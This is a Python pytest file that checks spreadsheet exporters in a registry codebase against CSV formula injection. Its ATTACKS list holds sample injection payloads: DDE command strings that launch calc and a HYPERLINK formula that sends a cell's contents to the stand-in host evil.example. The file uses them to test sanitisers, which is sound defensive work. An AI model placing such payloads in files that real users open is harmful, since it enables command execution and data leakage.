"""Every module that writes a table for a spreadsheet says why no cell of it is run as a formula."""

import re
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from registry.imports.rows import guarded
from registry.records.export import safe

ROOT = Path(__file__).parents[1]
FLOORS = ("boundaries", "registry", "geo", "maps", "api", "cli")
WRITES = re.compile(r"csv\.(?:writer|DictWriter)|Workbook\(|\.to_csv\(|write_csv\(")

EXPORTERS = {
    "registry/records/export.py": "every cell goes through safe",
    "registry/imports/reports.py": "cells of files go through guarded; all else is our own text",
    "registry/imports/matching.py": "read back by us alone; cells go through guarded",
    "registry/imports/templates.py": "our own text",
    "geo/downloads/forms.py": "published numbers and names of areas",
    "geo/downloads/service.py": "published numbers and names of areas",
    "geo/engines/files.py": "numbers and codes",
    "geo/targeting/files.py": "numbers and names of areas",
    "geo/scenarios/files.py": "numbers, codes and reference numbers",
    "geo/publication/making.py": "numbers that are hashed, not kept",
    "geo/geocoding/files.py": "the reader's own file, given back with columns added",
    "api/rendering.py": "published numbers and names of areas",
    "cli/statistics.py": "published numbers and names of areas",
    "cli/coordination.py": "numbers, codes and reference numbers",
    "boundaries/sets/crosswalk.py": "names of areas, for this repository",
}
"""Module to what keeps its cells plain."""

STARTS = ("=", "+", "-", "@", "\t", "\r")
ATTACKS = (
    "=cmd|'/c calc'!A0",
    '=HYPERLINK("http://evil.example?"&A1,"x")',
    "+1+cmd|'/c calc'!A0",
    "-2+3",
    "@SUM(1)",
    "\t=1",
    "\r=1",
)


def test_every_module_that_writes_a_table_is_listed() -> None:
    found = {
        str(path.relative_to(ROOT))
        for floor in FLOORS
        for path in (ROOT / floor).rglob("*.py")
        if WRITES.search(path.read_text(encoding="utf-8"))
    }
    assert found == set(EXPORTERS)


@pytest.mark.parametrize("attack", ATTACKS)
@pytest.mark.parametrize("defuse", [safe, guarded])
def test_a_formula_becomes_text(defuse, attack: str) -> None:
    assert defuse(attack).startswith("'")
    assert defuse("Kampung Contoh") == "Kampung Contoh"


@given(st.text(max_size=40))
def test_no_text_whatever_begins_a_formula(text: str) -> None:
    assert not str(safe(text)).startswith(STARTS)
    assert not guarded(text).startswith(STARTS)
